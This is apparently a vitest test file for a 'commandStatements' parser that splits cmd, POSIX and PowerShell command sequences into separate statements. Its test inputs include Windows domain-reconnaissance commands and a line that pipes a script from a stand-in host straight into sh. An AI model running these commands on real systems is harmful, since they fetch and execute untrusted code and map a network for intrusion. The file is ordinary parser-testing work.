import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandStatements } from './command-statements.js';

describe('commandStatements', () => {
  it('splits cmd, POSIX and PowerShell command sequences into their commands', () => {
    expect(commandStatements('cmd.exe /c whoami /all && net group "domain admins" /domain & ipconfig /all')).toEqual([
      'cmd.exe /c whoami /all',
      'net group "domain admins" /domain',
      'ipconfig /all',
    ]);
    expect(commandStatements('cd /tmp; curl -s http://x.example/a.sh | sh\nchmod +x a.sh')).toEqual([
      'cd /tmp',
      'curl -s http://x.example/a.sh | sh',
      'chmod +x a.sh',
    ]);
  });

  it('keeps a redirect ampersand inside its command and drops empty or one-word parts', () => {
    expect(commandStatements('del out.txt >nul 2>&1 ; ;; x')).toEqual(['del out.txt >nul 2>&1']);
  });

  it('is bounded in count and length whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 3_000 }), (text) => {
        const statements = commandStatements(text, { maxStatements: 5, maxLength: 50 });
        expect(statements.length).toBeLessThanOrEqual(5);
        for (const statement of statements) expect(statement.length).toBeLessThanOrEqual(50);
      }),
    );
  });
});
